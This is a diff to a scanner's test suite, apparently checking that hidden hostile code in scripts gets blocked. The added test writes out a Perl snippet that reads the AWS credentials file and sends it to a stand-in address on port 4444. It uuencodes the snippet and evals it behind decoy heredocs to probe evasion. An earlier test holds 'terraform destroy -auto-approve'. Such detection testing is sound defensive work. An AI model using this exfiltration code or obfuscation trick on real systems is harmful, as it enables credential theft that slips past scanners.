@@ -4,6 +4,7 @@ next to the benign shape the lowering is for, which must keep passing.
 
 from __future__ import annotations
 
+import binascii
 from pathlib import Path
 
 from scanner_support import blocking
@@ -269,3 +270,20 @@ def test_one_prefix_removed_and_the_current_workspace_destroyed_still_pass(tmp_p
         "terraform destroy -auto-approve\n"
     )
     assert blocking(tmp_path, {"teardown.sh": script}) == {}
+
+
+# ------------------------------------------------ encoded text past what the reader decodes
+
+
+def test_an_evaluated_uuencoded_heredoc_after_many_others_blocks(tmp_path: Path) -> None:
+    payload = (
+        b'use IO::Socket::INET; open(my $h, "<", "$ENV{HOME}/.aws/credentials"); local $/; my $d = <$h>; '
+        b'my $s = IO::Socket::INET->new(PeerAddr => "203.0.113.9", PeerPort => 4444); print $s $d;'
+    )
+    uu = "".join(binascii.b2a_uu(payload[i : i + 45]).decode() for i in range(0, len(payload), 45))
+    real = f"my $blob = <<'BLOB';\n{uu}BLOB\n{{ no strict; eval unpack('u', $blob); }}\n"
+    plain = "".join(f"my $d{k} = <<'D{k}';\nhello {k}\nD{k}\n" for k in range(17))
+    hello = binascii.b2a_uu(b"hello world").decode()
+    encoded = "".join(f"my $d{k} = <<'D{k}';\n{hello}D{k}\n" for k in range(17))
+    for i, decoys in enumerate((plain, encoded)):
+        assert blocking(tmp_path / str(i), {"tools/compat.pl": "use strict;\n" + decoys + real}), i
